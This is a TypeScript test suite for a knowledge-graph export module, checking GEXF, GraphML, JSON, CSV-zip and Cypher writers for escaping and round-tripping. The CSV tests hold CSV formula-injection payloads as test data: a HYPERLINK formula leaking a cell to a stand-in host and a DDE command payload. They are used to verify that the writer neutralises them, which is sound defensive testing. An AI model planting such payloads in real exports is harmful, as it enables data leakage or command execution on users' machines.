// Export writers are pure: GEXF and GraphML read back with graphology's parsers, CSV unzips, Cypher literals escape.

import type { WireGraph } from "@domain/contracts/wire";
import { exportFileName } from "@domain/export/formats";
import type { ExportInput } from "@domain/export/types";
import { csvField, FORMULA_TRIGGERS, neutraliseFormula, writeCsvZip } from "@domain/export/writers/csv";
import {
  cypherName,
  cypherString,
  cypherValue,
  nodeProperties,
  writeCypherScript,
} from "@domain/export/writers/cypherScript";
import { writeGexf } from "@domain/export/writers/gexf";
import { writeGraphml } from "@domain/export/writers/graphml";
import { writeJson } from "@domain/export/writers/json";
import { escapeXml } from "@domain/export/writers/xml";
import { strFromU8, unzipSync } from "fflate";
import Graph from "graphology";
import * as gexf from "graphology-gexf";
import * as graphml from "graphology-graphml";
import { describe, expect, it } from "vitest";

const evidence = [
  { sourceId: "src", quote: 'قال "ديب سيك" <&> إن', start: 3, end: 22, gloss: "said" },
  { sourceId: "src", quote: "second, quote\nline", start: 30, end: 48 },
];

const graph: WireGraph = {
  attributes: {},
  options: { type: "directed", multi: true, allowSelfLoops: true },
  nodes: [
    {
      key: "org:deepseek",
      attributes: {
        kind: "entity",
        type: "Organization",
        label: "DeepSeek",
        labelAr: "ديب سيك",
        aliases: ["DS"],
        sourceIds: ["src"],
      },
    },
    {
      key: "claim:x",
      attributes: {
        kind: "claim",
        type: "Claim",
        label: "X",
        claimKind: "figure",
        value: 3,
        sourceIds: ["src"],
        evidence,
      },
    },
  ],
  edges: [
    {
      key: "org:deepseek|STATES|claim:x",
      source: "org:deepseek",
      target: "claim:x",
      attributes: { type: "STATES", evidence, sourceIds: ["src"], planned: true, amount: 380000000000 },
    },
  ],
};

const input: ExportInput = {
  graph,
  sources: [{ id: "src", title: "An article, with a comma", language: "ar", url: "https://example.org/a?b=1&c=2" }],
  generatedAt: "2026-01-02T03:04:05.000Z",
};

const text = (chunks: Iterable<string | Uint8Array>) =>
  [...chunks].map((c) => (typeof c === "string" ? c : strFromU8(c))).join("");

describe("GEXF writer", () => {
  it("should read back in graphology with every node, edge and evidence attribute intact", () => {
    const parsed = gexf.parse(Graph, text(writeGexf(input)));
    expect([parsed.order, parsed.size]).toEqual([2, 1]);
    const edge = parsed.edges()[0] as string;
    expect(parsed.source(edge)).toBe("org:deepseek");
    expect(JSON.parse(parsed.getEdgeAttribute(edge, "evidence"))).toEqual(evidence);
    expect(parsed.getEdgeAttribute(edge, "quotes")).toContain('"ديب سيك"');
    expect(JSON.parse(parsed.getNodeAttribute("claim:x", "evidence"))).toEqual(evidence);
    expect(parsed.getNodeAttribute("org:deepseek", "labelAr")).toBe("ديب سيك");
    expect(JSON.parse(parsed.getAttribute("sources"))).toEqual(input.sources);
  });
});

describe("GraphML writer", () => {
  it("should escape markup in text", () => {
    expect(escapeXml(`<a href="x">&'\u0001</a>`)).toBe("&lt;a href=&quot;x&quot;&gt;&amp;&apos;&lt;/a&gt;");
  });

  it("should read back in graphology with typed attributes, evidence and the bibliography", () => {
    const parsed = graphml.parse(Graph, text(writeGraphml(input)));
    expect([parsed.order, parsed.size]).toEqual([2, 1]);
    const edge = parsed.edges()[0] as string;
    expect(JSON.parse(parsed.getEdgeAttribute(edge, "evidence"))).toEqual(evidence);
    expect(parsed.getEdgeAttribute(edge, "planned")).toBe(true);
    expect(parsed.getEdgeAttribute(edge, "amount")).toBe(380000000000);
    expect(parsed.getNodeAttribute("claim:x", "value")).toBe(3);
    expect(JSON.parse(parsed.getAttribute("sources"))).toEqual(input.sources);
  });
});

describe("JSON writer", () => {
  it("should be graphology's serialization with the bibliography as a graph attribute", () => {
    const parsed = JSON.parse(text(writeJson(input)));
    const g = new Graph();
    g.import(parsed);
    expect(g.getEdgeAttribute("org:deepseek|STATES|claim:x", "evidence")).toEqual(evidence);
    expect(g.getAttribute("sources")).toEqual(input.sources);
  });
});

/** Unzips a writer's chunks into file name → text. */
function unzipText(chunks: Iterable<Uint8Array>): Record<string, string> {
  const bytes = [...chunks];
  const all = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
  let at = 0;
  for (const b of bytes) {
    all.set(b, at);
    at += b.length;
  }
  return Object.fromEntries(Object.entries(unzipSync(all)).map(([name, data]) => [name, strFromU8(data)]));
}

describe("CSV writer: spreadsheet formulas", () => {
  const payloads = ['=HYPERLINK("http://x.example/?"&A1,"click")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "x"];
  const variants = [...FORMULA_TRIGGERS].flatMap((t) => payloads.map((p) => `${t}${p}`));

  it("should prefix every text that starts with a formula trigger, whatever follows", () => {
    for (const v of variants) {
      expect(neutraliseFormula(v)).toBe(`'${v}`);
      const field = csvField(v, true);
      expect(field.replace(/^"/, "").startsWith("'")).toBe(true);
    }
  });

  it("should leave numbers, booleans, Arabic and ordinary text unchanged", () => {
    expect(csvField(-12.5, true)).toBe("-12.5");
    expect(csvField(-3, true)).toBe("-3");
    expect(csvField(true, true)).toBe("true");
    for (const text of ["DeepSeek", "ديب سيك", "'already quoted", " =leading space", "a=b", "48%"]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it("should neutralise names, quotes, glosses and source metadata in every file of the zip", () => {
    const attack = (i: number) => variants[i % variants.length] as string;
    const hostile: ExportInput = {
      generatedAt: "2026-11-29T00:00:00.000Z",
      graph: {
        ...graph,
        nodes: graph.nodes.map((n, i) => ({
          key: n.key,
          attributes: { ...n.attributes, label: attack(i), labelAr: attack(i + 7) },
        })),
        edges: graph.edges.map((e, i) => ({
          ...e,
          attributes: {
            ...e.attributes,
            evidence: [{ sourceId: "src", quote: attack(i + 3), start: 0, end: 5, gloss: attack(i + 11) }],
          },
        })),
      },
      sources: [{ id: "src", title: attack(1), publisher: attack(2), url: attack(4) }],
    };
    const files = unzipText(writeCsvZip(hostile, { bom: false }));
    for (const text of Object.values(files)) {
      // No field may start with a trigger: after a line start, a comma, or an opening quote of a quoted field.
      for (const t of FORMULA_TRIGGERS) {
        if (t === "\r") continue; // CRLF ends every record; a CR inside a field is always quoted and prefixed.
        expect(text).not.toMatch(new RegExp(`(^|\\r\\n|,)"?${t.replace(/[+\\]/g, "\\$&")}`, "m"));
      }
    }
    expect(files["nodes.csv"]).toContain(csvField(`'${attack(0)}`));
  });

  it("should keep values exact when neutralisation is off (for a CSV meant to rebuild data)", () => {
    expect(csvField("=1+1", false)).toBe("=1+1");
    const files = unzipText(
      writeCsvZip({ ...input, sources: [{ id: "src", title: "=1+1" }] }, { bom: false, neutraliseFormulas: false }),
    );
    expect(files["sources.csv"]).toContain("src,=1+1");
  });
});

describe("CSV writer", () => {
  it("should quote fields with commas, quotes or line breaks", () => {
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField("x\ny")).toBe('"x\ny"');
    expect(csvField(undefined)).toBe("");
    expect(csvField(3)).toBe("3");
  });

  it("should zip nodes.csv, edges.csv and sources.csv with evidence in the edges", () => {
    const bytes = [...writeCsvZip(input, { bom: false })] as Uint8Array[];
    const all = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
    let at = 0;
    for (const b of bytes) {
      all.set(b, at);
      at += b.length;
    }
    const files = unzipSync(all);
    expect(Object.keys(files).sort()).toEqual(["edges.csv", "nodes.csv", "sources.csv"]);
    const edges = strFromU8(files["edges.csv"] as Uint8Array);
    expect(edges.startsWith("key,source,target,type,quotes,spans,sourceIds,evidenceCount,evidence")).toBe(true);
    expect(edges).toContain("src:3-22 | src:30-48");
    expect(strFromU8(files["sources.csv"] as Uint8Array)).toContain('"An article, with a comma"');
  });
});

describe("Cypher script writer", () => {
  it("should escape string literals and names", () => {
    expect(cypherString("it's \\ \n")).toBe("'it\\'s \\\\ \\n'");
    expect(cypherName("we`ird")).toBe("`we``ird`");
    expect(cypherValue(Number.NaN)).toBeNull();
    expect(cypherValue([1, "a", true])).toBe("[1, 'a', true]");
  });

  it("should map wire attributes back to stored properties with flat evidence lists", () => {
    const props = nodeProperties("claim:x", graph.nodes[1]?.attributes as Record<string, unknown>);
    expect(props).toMatchObject({ id: "claim:x", kind: "figure", value: 3, quotes: evidence.map((e) => e.quote) });
    expect(props).not.toHaveProperty("label");
  });

  it("should MERGE sources, nodes and relationships with their evidence", () => {
    const script = text(writeCypherScript(input));
    expect(script).toContain("MERGE (s:Source {id: 'src'})");
    expect(script).toContain("MERGE (n:Entity {id: 'org:deepseek'}) SET n:Entity:`Organization`");
    expect(script).toContain("MERGE (a)-[r:`STATES`]->(b)");
    expect(script).toContain("`starts`: [3, 30]");
    expect(
      script
        .trim()
        .split("\n")
        .filter((l) => !l.startsWith("//"))
        .every((l) => l.endsWith(";")),
    ).toBe(true);
  });
});

describe("exportFileName", () => {
  it("should be generated from the time and the format, never from input", () => {
    expect(exportFileName("csv", new Date("2026-01-02T03:04:05.678Z"))).toBe("kg-export-2026-01-02T03-04-05Z.zip");
    expect(exportFileName("gexf", new Date(0))).toBe("kg-export-1970-01-01T00-00-00Z.gexf");
    expect(exportFileName("png", new Date(0))).toMatch(/\.png$/);
  });
});
